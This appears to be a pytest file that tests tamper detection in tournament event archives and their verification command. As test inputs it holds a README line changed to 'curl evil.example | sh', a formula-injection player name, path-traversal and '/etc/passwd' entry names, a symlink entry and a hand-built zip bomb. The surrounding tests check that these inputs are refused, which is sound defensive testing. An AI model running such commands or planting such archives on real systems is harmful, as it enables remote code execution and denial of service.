"""Archives of events: fetched over HTTP, verified whole by the command line, and refused where they were tampered with."""

import csv
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from flask import Flask

from deploy.cli.files import zip_form
from deploy.server import embedded
from services.standings.files.archive.contents import FILES
from services.standings.files.sheet_sources import sheets_followed
from shared.core.language.messages import say
from shared.http.app import close
from shared.http.limits.rate_limits import Limits
from tests.browser.serving import served
from tests.http.calls import Call
from tests.http.forms import hall
from tests.played import a_desk, an_app, spring_cup

T = "cup.open"
PATH = f"/v1/tournaments/{T}/archive"
MOVES = ["h2e2", "h9g7", "h0g2", "i9h9"]
Change = Callable[[dict[str, bytes]], None]


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("archives")


@pytest.fixture(scope="module")
def app(data: Path) -> Iterator[Flask]:
    made = embedded.make_app(data, Limits(rate=0, reads=0))
    yield made
    close(made)


@pytest.fixture(scope="module")
def call(app: Flask, data: Path) -> Call:
    """An event with score sheets, a ruling, hostile names, one of them erased, and a final table."""
    call = hall(app, data, T)
    names = [
        {"name": "=HYPERLINK(1)", "sex": "f", "birth_year": 2011},
        {"name": "../../<b>李</b>", "fide_id": "8600001"},
    ]
    late = call("POST", "/v1/tournaments/<t>/entries", {"players": names})
    assert late.status_code == 201, late.json
    for board in (1, 2):
        played = call("POST", f"/v1/games/{T}.1.{board}/moves", {"ply": 1, "moves": MOVES[: 2 * board]})
        assert played.status_code == 201, played.json
    results = [{"board": n, "result": r} for n, r in enumerate(("1-0", "1/2-1/2", "0-1"), 1)]
    assert call("POST", "/v1/tournaments/<t>/results", {"round": 1, "results": results}).status_code == 201
    ruling = {"player": 1, "round": 1, "infraction": "foul", "note": "touched two pieces"}
    assert call("POST", "/v1/tournaments/<t>/rulings", ruling).status_code == 201
    assert call("DELETE", f"/v1/tournaments/{T}/texts/{hash_of(call, 'Player 2')}", role="organiser").status_code == 200
    seen = call("GET", "/v1/tournaments/<t>").headers["ETag"]
    assert call("POST", "/v1/tournaments/<t>/publications", {"final": True}, If_Match=seen).status_code == 201
    return call


def hash_of(call: Call, name: str) -> str:
    return next(text["hash"] for text in call("GET", "/v1/tournaments/<t>/texts").json["texts"] if text["text"] == name)


@pytest.fixture(scope="module")
def whole(call: Call) -> bytes:
    """The archive as an official gets it."""
    answer = call("GET", PATH)
    assert (answer.status_code, answer.mimetype) == (200, "application/zip"), answer.text
    return answer.data


def files_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


@pytest.fixture
def put(tmp_path: Path) -> Callable[[bytes], Path]:
    def write(content: bytes) -> Path:
        file = tmp_path / "event.zip"
        file.write_bytes(content)
        return file

    return write


def test_a_copy_of_the_event_goes_to_a_stick_and_is_audited_there(arbiter, app, call, data, tmp_path):
    code, _, told = arbiter("archive", T, "--data", data, "--to", tmp_path)
    (copy,) = tmp_path.iterdir()
    assert (
        code == 0
        and str(copy) in told
        and copy.name == f"{T}.{call('GET', PATH[:-8]).headers['ETag'].strip(chr(34))}.zip"
    )
    assert arbiter("verify", copy, "--key", data / "arbiter.vkey")[0] == 0
    assert copy.stat().st_mode & 0o777 == 0o600
    assert b"Player 1" in files_of(copy.read_bytes())["texts.ndjson"], "who holds the folder reads its texts"
    assert arbiter("archive", T, "--data", data, "--to", copy)[0] == 0, "the same again"
    with served(app) as address:
        other = tmp_path / "guest.zip"
        assert arbiter("archive", T, "--url", address, "--to", other)[0] == 0
        assert "texts.ndjson" not in files_of(other.read_bytes())
        code, _, told = arbiter("archive", T, "--url", address, "--to", copy)
    assert (code, "it was not replaced" in told, [f.name for f in tmp_path.glob(".*")]) == (2, True, [])
    code, _, told = arbiter("archive", T, "--data", data, "--to", tmp_path / "gone" / "copy.zip")
    assert (code, "cannot be written" in told) == (2, True)
    assert arbiter("archive", "nowhere", "--data", data, "--to", tmp_path)[0] == 2
    assert arbiter("archive", T, "--data", tmp_path / "none")[0] == 2


def test_an_archive_is_verified_whole_and_is_the_same_bytes_each_time(arbiter, call, whole, put, data):
    assert call("GET", PATH).data == whole
    code, out, _ = arbiter("verify", put(whole), "--key", data / "arbiter.vkey", "--json")
    told = json.loads(out)
    assert (code, told["verdict"], told["findings"], told["incomplete"]) == (0, "agrees", 0, {})
    assert told["checked"] == told["size"] and told["remarks"] == {}
    code, out, _ = arbiter("verify", put(whole))
    assert code == 0 and "the key comes from the archive itself" in " ".join(out.split())


def test_an_archive_holds_what_its_readme_says_and_nothing_that_the_reader_may_not_see(call, whole):
    files = files_of(whole)
    readme = files["README.txt"].decode()
    assert all(f"  {name} " in readme for name in files) and "验证方法" in readme
    assert list(files) == [name for name in FILES if name in files], "in a fixed order"
    assert b"touched two pieces" in files["texts.ndjson"] and b"Player 2" not in b"".join(files.values())
    rows = list(csv.reader(io.StringIO(files["standings.csv"].decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == [str(p["rank"]) for p in json.loads(files["standings.json"])["players"]]
    assert "'=HYPERLINK(1)" in {row[2] for row in rows}
    guest = call("GET", PATH, role=None)
    public = files_of(guest.data)
    assert "texts.ndjson" not in public and b"touched two pieces" not in b"".join(public.values())
    assert b"texts.ndjson: what people wrote" in public["missing.txt"]
    assert public["log.ndjson"] == files["log.ndjson"] and public["standings.json"] == files["standings.json"]
    assert guest.headers["Cache-Control"] == "no-cache" and f'filename="{T}.' in guest.headers["Content-Disposition"]


def test_a_token_that_is_no_good_gets_no_archive_that_lacks_what_its_owner_may_read(app, call):
    for token, status in (("nonsense", 401), ("", 401)):
        answer = app.test_client().get(PATH, headers={"Authorization": f"Bearer {token}"})
        assert answer.status_code == status
    assert "texts.ndjson" not in files_of(call("GET", PATH, role="player", name="1").data)


def test_public_copy_agrees_and_says_that_names_and_notes_are_not_included(arbiter, call, put, data):
    copy = put(call("GET", PATH, role=None).data)
    code, out, _ = arbiter("verify", copy, "--key", data / "arbiter.vkey")
    told = " ".join(out.split())
    assert code == 0 and out.startswith("agrees: ") and "; names and notes are not included" in out.splitlines()[0]
    assert "names are taken from the archive" in told
    assert arbiter("verify", copy, "--key", data / "arbiter.vkey", "--strict")[0] == 1


def test_public_copy_that_does_not_say_so_is_incomplete(arbiter, call, put, data):
    files = files_of(call("GET", PATH, role=None).data)
    del files["missing.txt"]
    code, out, _ = arbiter("verify", put(zipped(files)), "--key", data / "arbiter.vkey")
    assert code == 3 and "texts.ndjson: missing from the archive" in out


def line_changed(files: dict[str, bytes]) -> None:
    files["log.ndjson"] = files["log.ndjson"].replace(b'"white":{"points":2', b'"white":{"points":1', 1)


def sheet_changed(files: dict[str, bytes]) -> None:
    files["sheets.ndjson"] = files["sheets.ndjson"].replace(b"h2e2", b"b2e2", 1)


def table_changed(files: dict[str, bytes]) -> None:
    files["standings.json"] = files["standings.json"].replace(b'"rank": 1', b'"rank": 2', 1)


def end_cut(files: dict[str, bytes]) -> None:
    files["log.ndjson"] = b"".join(files["log.ndjson"].splitlines(keepends=True)[:-1])


def text_changed(files: dict[str, bytes]) -> None:
    files["texts.ndjson"] = files["texts.ndjson"].replace(b"Player 3", b"Player 4", 1)


def readme_changed(files: dict[str, bytes]) -> None:
    files["README.txt"] = files["README.txt"].replace(b"  arbiter verify THIS.zip", b"  curl evil.example | sh", 1)


def other_event(files: dict[str, bytes]) -> None:
    files["archive.json"] = files["archive.json"].replace(b'"seq": ', b'"seq": 1', 1)


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (line_changed, "event "),
        (sheet_changed, "sheet"),
        (table_changed, "standings.json: differs from the content computed from the log"),
        (end_cut, "checkpoint"),
        (text_changed, "texts.ndjson"),
        (readme_changed, "README.txt: differs from the text that the software writes"),
        (other_event, "archive.json: it describes a different log"),
    ],
)
def test_one_forged_thing_in_an_archive_is_found_and_named(arbiter, whole, put, data, change: Change, told: str):
    files = files_of(whole)
    before = dict(files)
    change(files)
    assert files != before
    code, out, err = arbiter("verify", put(zipped(files)), "--key", data / "arbiter.vkey")
    assert code == 1 and told in " ".join((out + err).split()), out + err


def test_the_forged_line_is_named_by_its_number(arbiter, whole, put, data):
    files = files_of(whole)
    lines = files["log.ndjson"].splitlines(keepends=True)
    n = next(n for n, line in enumerate(lines) if b"arbiter.ruling.made" in line)
    lines[n] = lines[n].replace(b'"player":1', b'"player":2', 1)
    files["log.ndjson"] = b"".join(lines)
    told = json.loads(arbiter("verify", put(zipped(files)), "--json")[1])
    assert told["verdict"] == "differs" and (n + 1, n + 1) in {(one["from"], one["to"]) for one in told["found"]}


@pytest.mark.parametrize(
    "name", ["README.txt", "sheets.ndjson", "texts.ndjson", "checkpoint.txt", "archive.json", "tournament.trf"]
)
def test_a_file_that_is_missing_is_named(arbiter, whole, put, data, name: str):
    files = files_of(whole)
    del files[name]
    code, out, _ = arbiter("verify", put(zipped(files)), "--key", data / "arbiter.vkey")
    assert code == 3 and (name in out or "score sheet" in out), out


def test_a_file_that_no_archive_has_is_named_and_not_read(arbiter, whole, put, data):
    code, out, _ = arbiter(
        "verify", put(zipped({**files_of(whole), "notes.docx": b"x"})), "--key", data / "arbiter.vkey"
    )
    assert code == 3 and "notes.docx: unknown file in an archive" in " ".join(out.split())


@pytest.mark.parametrize(
    "name", ["../x", "/etc/passwd", "C:\\x", "a/b", "..", "log.ndjson\n", "LOG.NDJSON", "x\u202etxt.exe"]
)
def test_a_name_that_leads_elsewhere_is_refused_before_anything_is_read(arbiter, whole, put, name: str, tmp_path):
    code, out, err = arbiter("verify", put(zipped({**files_of(whole), name: b"x"})))
    assert (code, out) == (2, "") and len(err.splitlines()) == 1, err
    assert sorted(path.name for path in tmp_path.iterdir()) == ["event.zip"]


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_name_that_stands_there_twice_is_refused(arbiter, whole, put):
    out = io.BytesIO(whole)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("log.ndjson", b"{}\n")
    code, _, err = arbiter("verify", put(out.getvalue()))
    assert code == 2 and "is in the archive twice" in err


def test_a_link_in_an_archive_is_refused(arbiter, whole, put):
    out = io.BytesIO(whole)
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("notes.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    code, _, err = arbiter("verify", put(out.getvalue()))
    assert code == 2 and "is not a regular file" in err


def bomb(declared: int) -> bytes:
    """A zip of three files, each of 64 MB of zeros that deflate to 64 kB, whose heads say that they have ``declared`` bytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = b"".join(packer.compress(bytes(1 << 20)) for _ in range(64)) + packer.flush()
    out, central = b"", b""
    for name in (b"log.ndjson", b"sheets.ndjson", b"texts.ndjson"):
        head = struct.pack("<HHHHHIII", 20, 0, 8, 0, 33, 0, len(body), declared)
        place = struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, len(out))
        central += b"PK\x01\x02" + struct.pack("<H", 20) + head + place + name
        out += b"PK\x03\x04" + head + struct.pack("<HH", len(name), 0) + name + body
    return out + central + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 3, 3, len(central), len(out), 0)


@pytest.mark.parametrize("declared", [(1 << 32) - 2, 1000])
def test_a_zip_bomb_is_refused_whatever_it_says_of_its_size(arbiter, put, declared: int):
    code, _, err = arbiter("verify", put(bomb(declared)))
    assert code == 2 and len(err.splitlines()) == 1, err
    assert ("unpacks to more than" in err) == (declared > 1000)


def test_many_files_and_a_broken_zip_are_refused(arbiter, whole, put, monkeypatch):
    assert arbiter("verify", put(zipped({f"f{n}": b"" for n in range(100)})))[0] == 2
    for content in (whole[: len(whole) // 2], b"PK\x03\x04", whole.replace(b"PK\x01\x02", b"PK\x01\x03")):
        code, _, err = arbiter("verify", put(content))
        assert code == 2 and len(err.splitlines()) == 1, err
    assert arbiter("verify", put(zipped({"README.txt": b"x"})))[0] == 2
    assert arbiter("verify", put(whole), "--sheets", "x.ndjson")[0] == 2
    monkeypatch.setattr(zip_form, "MOST_BYTES", 1000)
    assert arbiter("verify", put(whole))[0] == 2


def test_games_gives_all_sheets_and_an_archive_made_of_them_is_the_same(app, call, whole):
    answer = call("GET", f"/v1/tournaments/{T}/sheets")
    assert (answer.status_code, answer.mimetype) == (200, "application/x-ndjson")
    assert answer.data == files_of(whole)["sheets.ndjson"]
    assert call("GET", "/v1/tournaments/nowhere/sheets").status_code == 404


def test_an_archive_without_its_score_sheets_says_so_and_is_incomplete(arbiter, put, tmp_path: Path):
    desk = a_desk(tmp_path)
    spring_cup(desk)
    client = an_app(
        tmp_path, desk, sheets=sheets_followed(desk, lambda: say("7 records are not read yet"))
    ).test_client()
    content = client.get("/v1/tournaments/cup/archive").data
    desk.close()
    assert b"sheets.ndjson: 7 records are not read yet" in files_of(content)["missing.txt"]
    code, out, _ = arbiter("verify", put(content))
    assert code == 3 and "7 records are not read yet" in " ".join(out.split())


def test_an_event_that_has_only_begun_and_one_that_nobody_knows(arbiter, call, put):
    assert call("GET", "/v1/tournaments/nowhere/archive").status_code == 404
    new = {"id": "new", "name": "New", "game": "go", "format": "swiss", "rounds": 3, "regulations": "campus"}
    assert call("POST", "/v1/tournaments", new).status_code == 201
    told = arbiter("verify", put(call("GET", "/v1/tournaments/new/archive").data))
    assert told[0] == 0, told
